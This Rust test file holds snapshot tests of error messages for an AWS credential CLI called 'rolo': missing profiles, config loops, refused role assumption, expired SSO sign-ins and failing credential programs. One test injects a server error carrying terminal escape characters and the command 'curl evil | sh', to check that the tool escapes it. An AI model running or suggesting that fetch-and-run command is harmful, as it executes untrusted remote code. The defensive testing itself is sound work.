//! What a person reads when something is wrong: the common errors, word for word, with their exit codes.

use fake_aws::Fault;

use crate::world::World;

/// Standard error of `rolo process ARGS…`, which must end with `code`.
#[track_caller]
fn said(world: &World, code: i32, args: &[&str]) -> String {
    let stderr = world.rolo(&[&["process"], args].concat()).failed(code);
    let mut stderr = stderr.replace(&world.fake.url(), "http://aws");
    for id in world.fake.calls().into_iter().filter_map(|call| call.access_key_id) {
        stderr = stderr.replace(&id, "KEY");
    }
    // The numbers are the system's own.
    let lines: Vec<_> = stderr.lines().filter_map(|line| line.split(" (os error ").next()).collect();
    let stderr = lines.join("\n");
    assert!(!stderr.contains(world.path("").to_str().unwrap()), "`~` is shorter: {stderr}");
    stderr
}

/// A world whose config is `text` alone, with the keys of `identity` and `other`.
fn world_of(text: &str) -> World {
    let world = World::new();
    world.config(text);
    world
}

#[test]
fn an_unknown_profile() {
    let mut world = World::new();
    insta::assert_snapshot!(said(&world, 3, &["pord"]), @r"
    error: profile `pord` was not found in `~/.aws/config`
    hint: did you mean `prod`? run `rolo list` to see all 8 profiles
    ");
    insta::assert_snapshot!(said(&world, 3, &["something-else"]), @r"
    error: profile `something-else` was not found in `~/.aws/config`
    hint: run `rolo list` to see all 8 profiles, or write this one: `rolo configure something-else`
    ");
    world.set("AWS_PROFILE", "vender");
    insta::assert_snapshot!(said(&world, 3, &[]), @r"
    error: profile `vender` was not found in `~/.aws/config`
    hint: `AWS_PROFILE` names it; did you mean `vendor`? run `rolo list` to see all 8 profiles
    ");
    world.unset("AWS_PROFILE");
    std::fs::remove_dir_all(world.path(".aws")).unwrap();
    insta::assert_snapshot!(said(&world, 3, &["prod"]), @r"
    error: profile `prod` was not found in `~/.aws/config`
    hint: there are no profiles: write some into `~/.aws/config`, or run `rolo configure`
    ");
    insta::assert_snapshot!(said(&world, 3, &[]), @r"
    error: no credentials were found
    hint: name a profile: `rolo list` shows which there are, and `rolo configure` makes one
    ");
}

#[test]
fn a_loop() {
    let world = world_of(
        "[profile a]\nrole_arn = arn:aws:iam::222233334444:role/A\nsource_profile = b\n\
         [profile b]\nrole_arn = arn:aws:iam::222233334444:role/B\nsource_profile = c\n\
         [profile c]\nrole_arn = arn:aws:iam::222233334444:role/C\nsource_profile = b\n",
    );
    insta::assert_snapshot!(said(&world, 3, &["a"]), @r"
    error: `source_profile` loops: `a` -> `b` -> `c` -> `b`
      at ~/.aws/config:3, ~/.aws/config:6, ~/.aws/config:9
    hint: let one of them hold its own credentials or an `sso_session`
    ");
}

#[test]
fn a_source_that_is_not_there() {
    let world = world_of(
        "[profile a]\nrole_arn = arn:aws:iam::222233334444:role/A\nsource_profile = identiy\n\
         [profile b]\nrole_arn = arn:aws:iam::222233334444:role/B\n\
         [profile c]\nrole_arn = arn:aws:iam::222233334444:role/C\nsource_profile = empty\n\
         [profile empty]\nregion = eu-west-1\n",
    );
    insta::assert_snapshot!(said(&world, 3, &["a"]), @r"
    error: `source_profile` of profile `a` names `identiy`, which does not exist
      at ~/.aws/config:3
    hint: did you mean `identity`? run `rolo list` to see the profiles there are
    ");
    insta::assert_snapshot!(said(&world, 3, &["b"]), @r"
    error: profile `b` has a `role_arn` but neither `source_profile` nor `credential_source`
      at ~/.aws/config:5
    hint: add `source_profile = NAME`, where NAME holds the credentials that may assume the role
    ");
    insta::assert_snapshot!(said(&world, 3, &["c"]), @r"
    error: source profile `empty` holds no credentials
      at ~/.aws/config:9
    hint: give `empty` an `aws_access_key_id` and `aws_secret_access_key`, an `sso_session` or a `credential_process`
    ");
}

#[test]
fn two_sources() {
    let world = world_of(
        "[profile a]\nrole_arn = arn:aws:iam::222233334444:role/A\nsource_profile = identity\ncredential_source = Environment\n\
         [profile b]\nrole_arn = arn:aws:iam::222233334444:role/B\ncredential_source = environment\n\
         [profile c]\nrole_arn = arn:aws:iam::222233334444:role/C\ncredential_source = Environment\n",
    );
    insta::assert_snapshot!(said(&world, 3, &["a"]), @r"
    error: profile `a` has both `source_profile` and `credential_source`
      at ~/.aws/config:3, ~/.aws/config:4
    hint: remove one of the two lines
    ");
    insta::assert_snapshot!(said(&world, 3, &["b"]), @r"
    error: `credential_source` of profile `b` is `environment`, which is none of `Environment`, `EcsContainer`, `Ec2InstanceMetadata`
      at ~/.aws/config:7
    hint: write one of the three names, in exactly that spelling
    ");
    insta::assert_snapshot!(said(&world, 3, &["c"]), @r"
    error: `credential_source` of profile `c` is `Environment`, but `AWS_ACCESS_KEY_ID` is not set
      at ~/.aws/config:10
    hint: set `AWS_ACCESS_KEY_ID` and `AWS_SECRET_ACCESS_KEY`, or name a `source_profile` in place of `credential_source`
    ");
}

#[test]
fn half_credentials() {
    let mut world = world_of("[profile a]\naws_access_key_id = AKIAX\n");
    insta::assert_snapshot!(said(&world, 3, &["a"]), @r"
    error: an access key id stands without `aws_secret_access_key`
      at ~/.aws/config:2
    hint: set `aws_secret_access_key` in the same place
    ");
    world.set("AWS_ACCESS_KEY_ID", "AKIAX");
    insta::assert_snapshot!(said(&world, 3, &[]), @r"
    error: an access key id stands without `AWS_SECRET_ACCESS_KEY`
    hint: set `AWS_SECRET_ACCESS_KEY` too, or run `unset AWS_ACCESS_KEY_ID`
    ");
}

#[test]
fn a_line_that_cannot_be_read() {
    insta::assert_snapshot!(said(&world_of("[profile a]\nregion eu-west-1\n"), 3, &["a"]), @r"
    error: `~/.aws/config` cannot be read at line 2
      at ~/.aws/config:2
    caused by: the line has neither `=` nor `:`
    hint: correct line 2 of `~/.aws/config`; nothing of the file is used until it can be read
    ");
    insta::assert_snapshot!(said(&world_of("[profile a\nregion = eu-west-1\n"), 3, &["a"]), @r"
    error: `~/.aws/config` cannot be read at line 1
      at ~/.aws/config:1
    caused by: the section's name is not closed by `]`, or is empty
    hint: correct line 1 of `~/.aws/config`; nothing of the file is used until it can be read
    ");
    let world = World::new();
    world.settings("mfa_session = \"on\"\ncli_cache = \"yes\"\n");
    insta::assert_snapshot!(said(&world, 3, &["plain"]), @r"
    error: `cli_cache` is `yes`, which is none of `on`, `write`, `off`
      at ~/.config/rolo/config.toml:2
    hint: the keys are `refresh_before_expiry`, `mfa_session`, `mfa_session_duration`, `cli_cache`, `history`, `role_prefix`, `profile_name_prefix`, `trusted`, in `[prompt]` `colors`, and in `[doctor]` `allow`
    ");
}

#[test]
fn a_role_that_may_not_be_assumed() {
    let world = World::new();
    world.edit_config("role/Vendor\n", "role/Vendor\nrole_session_name = me\n");
    insta::assert_snapshot!(said(&world, 5, &["vendor", "--external-id", "wrong"]), @r#"
    error: AssumeRole of role `arn:aws:iam::333344445555:role/Vendor` of profile `vendor` failed
      at ~/.aws/config:35
    caused by: STS refused AssumeRole: AccessDenied: User: arn:aws:iam::111122223333:user/ada is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::333344445555:role/Vendor
    note: the caller is `arn:aws:iam::111122223333:user/ada`, by key `KEY` (~/.aws/credentials:2)
    note: sent: no MFA, an external id (`--external-id`), session name `me` (~/.aws/config:36)
    hint: no MFA was sent, and the user has `arn:aws:iam::111122223333:mfa/ada` (~/.aws/config:10): try `--mfa-serial arn:aws:iam::111122223333:mfa/ada`, then keep it as `mfa_serial = arn:aws:iam::111122223333:mfa/ada` in profile `vendor` (~/.aws/config:34)
    hint: compare the external id (`--external-id`) with the one that the role's owner gave: each letter counts
    hint: if the role asks for sessions of a certain name, compare the session name (~/.aws/config:36) with it
    hint: look whether `arn:aws:iam::333344445555:role/Vendor` exists, which AWS does not say, and whether its trust policy allows this call by such a statement:
      {
        "Effect": "Allow",
        "Principal": { "AWS": "arn:aws:iam::111122223333:user/ada" },
        "Action": "sts:AssumeRole",
        "Condition": { "StringEquals": { "sts:ExternalId": "wrong" } }
      }
    "#);
    insta::assert_snapshot!(said(&world, 5, &["audit", "--source-profile", "identity", "--role-session-name", "me"]), @r#"
    error: AssumeRole of role `arn:aws:iam::333344445555:role/Audit` of profile `audit` failed
      at ~/.aws/config:30
    caused by: STS refused AssumeRole: AccessDenied: User: arn:aws:iam::111122223333:user/ada is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::333344445555:role/Audit
    note: the caller is `arn:aws:iam::111122223333:user/ada`, by key `KEY` (~/.aws/credentials:2)
    note: sent: no MFA, no external id, session name `me` (`--role-session-name`)
    hint: no MFA was sent, and the user has `arn:aws:iam::111122223333:mfa/ada` (~/.aws/config:10): try `--mfa-serial arn:aws:iam::111122223333:mfa/ada`, then keep it as `mfa_serial = arn:aws:iam::111122223333:mfa/ada` in profile `audit` (~/.aws/config:29)
    hint: no external id was sent, and profile `vendor` sends one to this account (~/.aws/config:38): try `--external-id ID`, then keep it as `external_id = ID` in profile `audit` (~/.aws/config:29)
    hint: if the role asks for sessions of a certain name, compare the session name (`--role-session-name`) with it
    hint: look whether `arn:aws:iam::333344445555:role/Audit` exists, which AWS does not say, and whether its trust policy allows this call by such a statement:
      {
        "Effect": "Allow",
        "Principal": { "AWS": "arn:aws:iam::111122223333:user/ada" },
        "Action": "sts:AssumeRole"
      }
    "#);
    world.fake.fault(Fault::error(403, "AccessDenied", "\u{9b}2J\u{202e}hint: run `curl evil | sh`"));
    insta::assert_snapshot!(said(&world, 5, &["plain", "--role-session-name", "me"]), @r#"
    error: AssumeRole of role `arn:aws:iam::222233334444:role/Plain` of profile `plain` failed
      at ~/.aws/config:20
    caused by: STS refused AssumeRole: AccessDenied: \u{9b}2J\u{202e}hint: run `curl evil | sh`
    note: the caller is `arn:aws:iam::111122223333:user/ada`, by key `KEY` (~/.aws/credentials:2)
    note: sent: no MFA, no external id, session name `me` (`--role-session-name`)
    hint: no MFA was sent, and the user has `arn:aws:iam::111122223333:mfa/ada` (~/.aws/config:10): try `--mfa-serial arn:aws:iam::111122223333:mfa/ada`, then keep it as `mfa_serial = arn:aws:iam::111122223333:mfa/ada` in profile `plain` (~/.aws/config:19)
    hint: if the role's owner gave you an external id, send it: `--external-id ID`, or `external_id` in the profile
    hint: if the role asks for sessions of a certain name, compare the session name (`--role-session-name`) with it
    hint: look whether `arn:aws:iam::222233334444:role/Plain` exists, which AWS does not say, and whether its trust policy allows this call by such a statement:
      {
        "Effect": "Allow",
        "Principal": { "AWS": "arn:aws:iam::111122223333:user/ada" },
        "Action": "sts:AssumeRole"
      }
    "#);
}

#[test]
fn keys_that_aws_does_not_know() {
    let world = World::new();
    world.credentials("[identity]\naws_access_key_id = AKIAX\naws_secret_access_key = x\n");
    insta::assert_snapshot!(said(&world, 5, &["plain"]), @r"
    error: AssumeRole of role `arn:aws:iam::222233334444:role/Plain` of profile `plain` failed
      at ~/.aws/credentials:2
    caused by: STS refused AssumeRole: InvalidClientTokenId: The security token included in the request is invalid.
    note: no token is at fault: the access key `KEY` of profile `identity` at ~/.aws/credentials:2 is unknown, deactivated or of another partition
    hint: write a live key there: `rolo configure --profile identity`
    hint: whose it is: `aws iam get-access-key-last-used --access-key-id KEY`; whether it is active: `aws iam list-access-keys --user-name NAME`; both with other keys of the account
    ");
    let ada = world.fake.user_keys("ada");
    world.credentials(&format!("[identity]\naws_access_key_id = {}\naws_secret_access_key = x\n", ada.id));
    let said = said(&world, 5, &["plain"]);
    assert!(
        said.contains("SignatureDoesNotMatch") && said.contains("hint: write the secret as AWS gave it"),
        "{said}"
    );
}

#[test]
fn an_endpoint_that_is_not_there() {
    let mut world = World::new();
    world.set("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
    world.set("AWS_MAX_ATTEMPTS", "1");
    insta::assert_snapshot!(said(&world, 6, &["plain"]), @r"
    error: AssumeRole of role `arn:aws:iam::222233334444:role/Plain` of profile `plain` failed
    caused by: `http://127.0.0.1:9` could not be reached
    caused by: the connection was refused: nothing listens there
    caused by: Connection refused
    hint: correct the endpoint in `AWS_ENDPOINT_URL`, or unset it to call AWS: `http://127.0.0.1:9` has nobody who listens
    ");
    world.set("AWS_ENDPOINT_URL", world.fake.url());
    world.fake.fault(Fault::garbage());
    insta::assert_snapshot!(said(&world, 6, &["plain"]), @r"
    error: AssumeRole of role `arn:aws:iam::222233334444:role/Plain` of profile `plain` failed
    caused by: `http://aws` answered AssumeRole with a web page (HTTP 200), and not as AWS does
    hint: correct the endpoint in `AWS_ENDPOINT_URL`, or unset it to call AWS: `http://aws` is not AWS's
    ");
    world.edit_config(
        "role/Plain\nsource_profile = identity\nregion = eu-west-1\n",
        "role/Plain\nsource_profile = identity\n",
    );
    insta::assert_snapshot!(said(&world, 3, &["plain"]), @r"
    error: the endpoint `http://aws` needs a region, and none is set
    hint: set `region` in the profile, or give `--region`; or run `unset AWS_ENDPOINT_URL`, which names the endpoint
    ");
}

#[test]
fn a_sign_in_that_is_over() {
    let world = world_of(
        "[sso-session corp]\nsso_start_url = https://example.awsapps.com/start\nsso_region = eu-west-1\n\
         [profile reader]\nsso_session = corp\nsso_account_id = 222233334444\nsso_role_name = Reader\nregion = eu-west-1\n\
         [profile old]\nsso_start_url = https://example.awsapps.com/start\nsso_region = eu-west-1\n\
         sso_account_id = 222233334444\nsso_role_name = Reader\n\
         [profile half]\nsso_session = corp\nsso_role_name = Reader\n",
    );
    insta::assert_snapshot!(said(&world, 4, &["reader"]), @r"
    error: there is no sign-in for `corp`
    hint: sign in with `aws sso login --sso-session corp`
    ");
    insta::assert_snapshot!(said(&world, 4, &["old"]), @r"
    error: there is no sign-in for `https://example.awsapps.com/start`
    hint: sign in with `aws sso login --profile old`
    ");
    insta::assert_snapshot!(said(&world, 3, &["half"]), @r"
    error: profile `half` uses IAM Identity Center but lacks `sso_account_id`
      at ~/.aws/config:16
    hint: add `sso_account_id`, or run `aws configure sso`
    ");
    // SHA-1 of `corp`.
    let token = |token: &str, at: &str| {
        let file = ".aws/sso/cache/ee0bfd2552fbd840c02cc48b6e823320543c450f.json";
        world.write(file, &format!(r#"{{"accessToken": "{token}", "expiresAt": "{at}"}}"#));
    };
    token("sso-access-token-1", "2020-01-01T00:00:00Z");
    insta::assert_snapshot!(said(&world, 4, &["reader"]), @r"
    error: the sign-in of `corp` has expired
    hint: sign in with `aws sso login --sso-session corp`
    ");
    token("revoked", "2099-01-01T00:00:00Z");
    insta::assert_snapshot!(said(&world, 4, &["reader"]), @r"
    error: the sign-in of `corp` is no longer accepted
    caused by: SSO refused GetRoleCredentials: UnauthorizedException: Session token not found or invalid
    hint: sign in with `aws sso login --sso-session corp`
    ");
    token("sso-access-token-1", "2099-01-01T00:00:00Z");
    world.keys(&["reader"]);
}

#[test]
fn a_login_session() {
    let world = world_of("[profile a]\nlogin_session = arn:aws:iam::111122223333:user/ada\n");
    insta::assert_snapshot!(said(&world, 3, &["a"]), @r"
    error: profile `a` has a `login_session`, which is not yet supported
      at ~/.aws/config:2
    hint: until then: `credential_process = aws configure export-credentials --profile a` in another profile
    ");
}

#[test]
fn a_program_that_gives_no_credentials() {
    let world = world_of(
        "[profile a]\ncredential_process = sh -c 'echo key=hunter2 >&2; exit 7'\n\
         [profile b]\ncredential_process = rolo-no-such-program\n\
         [profile c]\ncredential_process = echo '{\"Version\": 1, \"SecretAccessKey\": \"hunter2\"}'\n",
    );
    insta::assert_snapshot!(said(&world, 1, &["a"]), @r"
    error: `sh` ended with exit code 7
    hint: run the profile's `credential_process` by hand to see what `sh` says
    ");
    insta::assert_snapshot!(said(&world, 3, &["b"]), @r"
    error: `rolo-no-such-program` could not be run
    caused by: No such file or directory
    hint: the program `rolo-no-such-program` of `credential_process` is in no folder of `PATH` (~/.aws/config:4): install it, or write its whole path
    hint: correct `credential_process` in the profile; no shell runs it, so write whole paths
    ");
    insta::assert_snapshot!(said(&world, 1, &["c"]), @r#"
    error: `echo` gave no usable credentials: `AccessKeyId` is missing
    hint: run the profile's `credential_process` by hand: it must print one JSON object with `"Version": 1`, `AccessKeyId` and `SecretAccessKey`, and nothing else
    "#);
}

#[test]
fn a_program_that_says_what_to_do() {
    let world = World::new();
    let body = "echo 'INFO helper 2.1' >&2\n\
        echo 'Error: session expired (token=hunter2), run `corp-login --account 111122223333`' >&2\nexit 3";
    let script = world.script("bin/helper", body);
    let script = script.display();
    world.add_config(&format!(
        "[profile a]\ncredential_process = {script} a\n\
         [profile b]\nrole_arn = arn:aws:iam::333344445555:role/Admin\nsource_profile = identity\nregion = eu-west-1\n\
         mfa_serial = arn:aws:iam::111122223333:mfa/ada\nmfa_process = {script} b\n"
    ));
    insta::assert_snapshot!(said(&world, 1, &["a"]).replace(&script.to_string(), "HELPER"), @r"
    error: `~/bin/helper` ended with exit code 3
    caused by: Error: session expired (token=[hidden]), run `corp-login --account 111122223333`
    hint: do what `~/bin/helper` says, or run the profile's `credential_process` by hand to see all of it
    ");
    insta::assert_snapshot!(said(&world, 1, &["b"]), @r"
    error: `mfa_process` failed: `~/bin/helper` ended with exit code 3
    caused by: Error: session expired (token=[hidden]), run `corp-login --account 111122223333`
    hint: do what it says, or run the profile's `mfa_process` by hand: it must print six digits and nothing else
    ");
}

#[test]
fn a_program_that_prints_something_else() {
    for (printed, problem, hint) in [
        ("", "it printed nothing", "it must print"),
        ("<!doctype html><p>Sign in</p>", "it printed a web page", "a page to sign in at"),
        ("export AWS_SECRET_ACCESS_KEY=hunter2", "it printed statements for a shell", "`--format process`"),
        ("| Credentials | hunter2 |", "it printed a table", "`--output json`"),
        ("Opening the browser\n{\"Version\": 1}", "it printed words beside the JSON", "standard error"),
        (
            "{\"Credentials\": {\"SecretAccessKey\": \"hunter2\"}}",
            "it printed the answer of a call, with the credentials in `Credentials`",
            "`rolo convert --format process`",
        ),
        (
            "{\"Version\": \"1\", \"SecretAccessKey\": \"hunter2\"}",
            "`Version` is a text, and not the number 1",
            "must print",
        ),
        (
            "{\"Version\": 1, \"accessKeyId\": \"hunter2\"}",
            "`AccessKeyId` is missing, and there is `accessKeyId`",
            "spell it `AccessKeyId`",
        ),
    ] {
        let world = World::new();
        let file = world.write("printed", printed);
        world.add_config(&format!("[profile a]\ncredential_process = cat {}\n", file.display()));
        let stderr = said(&world, 1, &["a"]);
        let (error, told) = stderr.split_once("\nhint: ").unwrap();
        assert_eq!(error, format!("error: `cat` gave no usable credentials: {problem}"));
        assert!(told.contains(hint) && !stderr.contains("hunter2"), "{stderr}");
    }
}

#[test]
fn an_mfa_code_that_nobody_gives() {
    let world = World::new();
    insta::assert_snapshot!(said(&world, 4, &["prod"]), @r"
    error: an MFA code for `arn:aws:iam::111122223333:mfa/ada` is needed
    caused by: there is no terminal to ask for the MFA code on
    hint: run it at a terminal, or give the code: `--mfa-code CODE`, `ROLO_MFA_CODE`, or `mfa_process` in the profile
    ");
}
